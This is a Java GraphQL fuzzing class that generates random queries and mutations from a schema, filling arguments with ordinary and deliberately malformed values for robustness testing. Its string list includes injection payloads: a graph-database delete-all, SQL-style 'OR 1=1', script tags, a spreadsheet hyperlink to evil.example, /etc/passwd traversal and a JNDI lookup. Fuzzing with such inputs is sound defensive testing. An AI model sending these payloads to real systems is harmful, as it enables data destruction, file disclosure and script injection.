package io.casefile.system;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

import graphql.schema.GraphQLArgument;
import graphql.schema.GraphQLEnumType;
import graphql.schema.GraphQLFieldDefinition;
import graphql.schema.GraphQLFieldsContainer;
import graphql.schema.GraphQLInputObjectField;
import graphql.schema.GraphQLInputObjectType;
import graphql.schema.GraphQLInputType;
import graphql.schema.GraphQLList;
import graphql.schema.GraphQLNonNull;
import graphql.schema.GraphQLObjectType;
import graphql.schema.GraphQLOutputType;
import graphql.schema.GraphQLScalarType;
import graphql.schema.GraphQLSchema;
import graphql.schema.GraphQLType;
import graphql.schema.GraphQLTypeUtil;
import graphql.schema.GraphQLUnionType;
import graphql.schema.GraphQLInterfaceType;
import tools.jackson.databind.json.JsonMapper;

/**
 * Random GraphQL requests drawn from the schema: a root field of the query or mutation
 * type (sometimes several, aliased), arguments of the declared types filled with ordinary
 * and hostile values (written into the query or sent as variables, now and then of the
 * wrong type), a random selection a few levels deep through fragments on interfaces and
 * unions, and now and then a query text cut short or spoiled. The same seed gives the
 * same requests.
 */
final class RequestGenerator {

	private static final JsonMapper JSON = JsonMapper.builder().build();

	/** Strings a journalist, a clumsy client or an attacker might send. */
	private static final List<String> STRINGS = List.of("amazon", "Amazon", "amazon.com, inc.", "andy-jassy",
			"Andy Jassy", "project-rainier", "layoff-amazon-2025-10-28", "source-reuters-amazon-layoffs", "", " ",
			"\t\n", "jobs", "layoffs AND capex", "free cash flow", "' OR 1=1 //", "\") RETURN 1 //",
			"}) MATCH (n) DETACH DELETE n //", "`id`", "$where", "Host\u0000ile", "bell\u0007", "\u202Eevil",
			"\uD83D\uDE80 rocket", "Zürich AG", "株式会社", "<script>alert(1)</script>",
			"=HYPERLINK(\"https://evil.example\",\"x\")", "javascript:alert(1)", "https://example.org/x",
			"file:///etc/passwd", "../../etc/passwd", "${jndi:ldap://example.org/a}", "%s%n%x", "2025-10-28",
			"2025-13-45", "2025", "2025-Q3", "Q3 2025", "yesterday", "2025-10-28T10:00:00Z", "-1", "1e309", "NaN",
			"null", "true", "cik:0001018724", "ticker:AMZN", "lei:", "isin:US0231351067", "x:y:z",
			"company,total_laid_off,date,source\nHostile Ltd,12,2025-01-02,https://example.org/h\n",
			"company,total_laid_off,date\n\"unclosed,1,2025-01-01\n", "{\"format\":\"casefile-dataset\"}",
			"{\"organizations\": [{\"name\": null}]}");

	private static final List<Object> INTS = List.of(0, 1, 2, 3, 5, 10, 50, 100, 1000, -1, Integer.MAX_VALUE,
			Integer.MIN_VALUE, 2026, 1999);

	private static final List<Object> FLOATS = List.of(0.0, 0.5, -1.0, 1e308, -0.0, 12.5, 100.0, 3.4e38);

	private final GraphQLSchema schema;

	private final Random random;

	private final Map<String, Object> variables = new LinkedHashMap<>();

	private final List<String> declarations = new ArrayList<>();

	RequestGenerator(GraphQLSchema schema, long seed) {
		this.schema = schema;
		this.random = new Random(seed);
	}

	/** One request: its body as JSON, and whether it goes with a writer's token. */
	record Request(String body, boolean withToken) {
	}

	Request next() {
		this.variables.clear();
		this.declarations.clear();
		boolean mutation = this.schema.getMutationType() != null && chance(0.25);
		GraphQLObjectType root = mutation ? this.schema.getMutationType() : this.schema.getQueryType();
		StringBuilder selection = new StringBuilder();
		int fields = chance(0.15) ? 2 + this.random.nextInt(3) : 1;
		for (int i = 0; i < fields; i++) {
			GraphQLFieldDefinition field = pick(root.getFieldDefinitions());
			selection.append((fields > 1) ? "a" + i + ": " : "").append(field(field, 0)).append(' ');
		}
		String query = (mutation ? "mutation" : "query") + " Fuzz"
				+ (this.declarations.isEmpty() ? "" : "(" + String.join(", ", this.declarations) + ")") + " { "
				+ selection + "}";
		if (chance(0.05)) {
			query = spoil(query);
		}
		Map<String, Object> body = new LinkedHashMap<>();
		body.put("query", query);
		if (!this.variables.isEmpty() || chance(0.1)) {
			body.put("variables", new LinkedHashMap<>(this.variables));
		}
		return new Request(JSON.writeValueAsString(body), mutation ? chance(0.8) : chance(0.1));
	}

	private String field(GraphQLFieldDefinition field, int depth) {
		StringBuilder out = new StringBuilder(field.getName());
		List<String> arguments = new ArrayList<>();
		for (GraphQLArgument argument : field.getArguments()) {
			boolean required = GraphQLTypeUtil.isNonNull(argument.getType());
			if (required ? chance(0.97) : chance(0.4)) {
				arguments.add(argument.getName() + ": " + argument(argument));
			}
		}
		if (!arguments.isEmpty()) {
			out.append('(').append(String.join(", ", arguments)).append(')');
		}
		String selection = selection(field.getType(), depth + 1);
		if (!selection.isEmpty()) {
			out.append(' ').append(selection);
		}
		return out.toString();
	}

	private String selection(GraphQLOutputType type, int depth) {
		GraphQLType named = GraphQLTypeUtil.unwrapAll(type);
		if (named instanceof GraphQLFieldsContainer container) {
			List<GraphQLFieldDefinition> fields = container.getFieldDefinitions();
			List<String> chosen = new ArrayList<>();
			chosen.add("__typename");
			int count = 1 + this.random.nextInt(Math.min(4, fields.size()));
			for (int i = 0; i < count; i++) {
				GraphQLFieldDefinition field = pick(fields);
				boolean leaf = GraphQLTypeUtil.isLeaf(GraphQLTypeUtil.unwrapAll(field.getType()));
				if (leaf || depth < 5) {
					chosen.add(field(field, depth));
				}
			}
			if (named instanceof GraphQLInterfaceType && depth < 5) {
				List<GraphQLObjectType> implementations = this.schema.getImplementations((GraphQLInterfaceType) named);
				if (!implementations.isEmpty()) {
					GraphQLObjectType implementation = pick(implementations);
					chosen.add("... on " + implementation.getName() + " " + selection(implementation, depth + 1));
				}
			}
			return "{ " + String.join(" ", chosen) + " }";
		}
		if (named instanceof GraphQLUnionType union) {
			GraphQLObjectType member = (GraphQLObjectType) pick(union.getTypes());
			return "{ __typename ... on " + member.getName() + " " + selection(member, depth + 1) + " }";
		}
		return "";
	}

	/** An argument's value: written into the query, or a variable the body carries. */
	private String argument(GraphQLArgument argument) {
		GraphQLInputType type = argument.getType();
		if (chance(0.5)) {
			String name = "v" + this.declarations.size();
			this.declarations.add("$" + name + ": " + GraphQLTypeUtil.simplePrint(type));
			if (chance(0.93)) {
				this.variables.put(name, plain(value(type, 0)));
			}
			else if (chance(0.5)) {
				this.variables.put(name, wrongValue());
			}
			return "$" + name;
		}
		return literal(chance(0.95) ? value(type, 0) : wrongValue());
	}

	/** An enum's value: bare in the query text, a string in variables. */
	private record EnumValue(String name) {
	}

	/** A value of the type, ordinary or hostile. */
	private Object value(GraphQLInputType type, int depth) {
		if (type instanceof GraphQLNonNull nonNull) {
			return value((GraphQLInputType) nonNull.getWrappedType(), depth);
		}
		if (chance(0.03)) {
			return null;
		}
		if (type instanceof GraphQLList list) {
			int size = chance(0.05) ? 300 : this.random.nextInt(4);
			List<Object> values = new ArrayList<>();
			for (int i = 0; i < size; i++) {
				values.add(value((GraphQLInputType) list.getWrappedType(), depth + 1));
			}
			return values;
		}
		if (type instanceof GraphQLEnumType enumType) {
			return new EnumValue(chance(0.95) ? pick(enumType.getValues()).getName() : "NOT_A_VALUE");
		}
		if (type instanceof GraphQLInputObjectType object) {
			Map<String, Object> fields = new LinkedHashMap<>();
			for (GraphQLInputObjectField field : object.getFieldDefinitions()) {
				boolean required = GraphQLTypeUtil.isNonNull(field.getType());
				if ((required ? chance(0.95) : chance(0.35)) && depth < 4) {
					fields.put(field.getName(), value(field.getType(), depth + 1));
				}
			}
			return fields;
		}
		GraphQLScalarType scalar = (GraphQLScalarType) type;
		return switch (scalar.getName()) {
			case "Int" -> pick(INTS);
			case "Float" -> pick(FLOATS);
			case "Boolean" -> this.random.nextBoolean();
			case "Date" -> pick(List.of("2025-10-28", "2025-02-29", "2024-02-29", "0001-01-01", "9999-12-31", "2025-10",
					"28/10/2025", "", "2025-10-28T00:00:00Z"));
			case "DateTime" -> pick(List.of("2026-01-01T00:00:00Z", "2026-01-01T00:00:00+05:30", "2026-01-01",
					"yesterday", "", "+999999999-12-31T23:59:59Z"));
			default -> string();
		};
	}

	private String string() {
		double roll = this.random.nextDouble();
		if (roll < 0.04) {
			return "x".repeat(10_000 + this.random.nextInt(100_000));
		}
		if (roll < 0.1) {
			StringBuilder noise = new StringBuilder();
			int length = 1 + this.random.nextInt(40);
			for (int i = 0; i < length; i++) {
				noise.append((char) this.random.nextInt(0x3000));
			}
			return noise.toString();
		}
		return pick(STRINGS);
	}

	/** A value of some other type than the argument's. */
	private Object wrongValue() {
		return pick(List.<Supplier<Object>>of(() -> 1.5, () -> "not a number", () -> List.of(1, 2),
				() -> Map.of("x", 1), () -> true, () -> 99_999_999_999L))
			.get();
	}

	/** A value as JSON carries it. */
	private static Object plain(Object value) {
		if (value instanceof EnumValue enumValue) {
			return enumValue.name();
		}
		if (value instanceof List<?> list) {
			List<Object> items = new ArrayList<>();
			list.forEach((item) -> items.add(plain(item)));
			return items;
		}
		if (value instanceof Map<?, ?> map) {
			Map<Object, Object> fields = new LinkedHashMap<>();
			map.forEach((key, item) -> fields.put(key, plain(item)));
			return fields;
		}
		return value;
	}

	/** A value written into the query text, as GraphQL writes it. */
	private static String literal(Object value) {
		if (value == null) {
			return "null";
		}
		if (value instanceof EnumValue enumValue) {
			return enumValue.name();
		}
		if (value instanceof String s) {
			return JSON.writeValueAsString(s);
		}
		if (value instanceof List<?> list) {
			List<String> items = new ArrayList<>();
			list.forEach((item) -> items.add(literal(item)));
			return "[" + String.join(", ", items) + "]";
		}
		if (value instanceof Map<?, ?> map) {
			List<String> fields = new ArrayList<>();
			map.forEach((key, item) -> fields.add(key + ": " + literal(item)));
			return "{" + String.join(", ", fields) + "}";
		}
		return String.valueOf(value);
	}

	/** A query text cut short, or with a character that does not belong. */
	private String spoil(String query) {
		int at = this.random.nextInt(query.length());
		return chance(0.5) ? query.substring(0, at) : query.substring(0, at)
				+ pick(List.of("{", "}", "\"", "$", "@", "\u0000", "(", "...")) + query.substring(at);
	}

	private boolean chance(double p) {
		return this.random.nextDouble() < p;
	}

	private <T> T pick(List<T> values) {
		return values.get(this.random.nextInt(values.size()));
	}

}
